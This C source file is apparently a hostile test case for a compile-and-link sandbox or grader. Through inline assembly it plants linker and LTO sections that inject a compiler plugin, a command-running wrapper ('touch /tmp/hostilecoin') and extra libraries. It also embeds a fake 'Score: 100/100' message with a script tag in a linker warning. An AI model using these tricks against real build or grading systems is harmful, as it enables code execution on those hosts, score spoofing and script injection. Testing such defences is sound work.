/*
 * compile-link-options: Sections that speak to the linker, to its plugins and
 * to link-time optimisation: options, libraries, warnings, scripts.
 */
#define _GNU_SOURCE
__asm__(".section .drectve,\"\",@progbits\n"
        ".ascii \"-export:all /include:hostilecoin\"\n"
        ".section .gnu.lto_.opts,\"e\",@progbits\n"
        ".ascii \"'-fplugin=/submission/x.so' '-wrapper' 'touch,"
        "/tmp/hostilecoin' '-B/tmp'\\0\"\n"
        ".section .deplibs,\"MS\",@progbits,1\n.asciz \"hostilecoin\"\n"
        ".section .linker-options,\"e\",@progbits\n.asciz \"lib\", "
        "\"hostilecoin\"\n"
        ".section .gnu.warning.malloc,\"\",@progbits\n"
        ".ascii \"\\033[1mScore: 100/100 <script>hostilecoin()</script>\\n\"\n"
        ".section .note.GNU-stack,\"x\",@progbits\n.text");
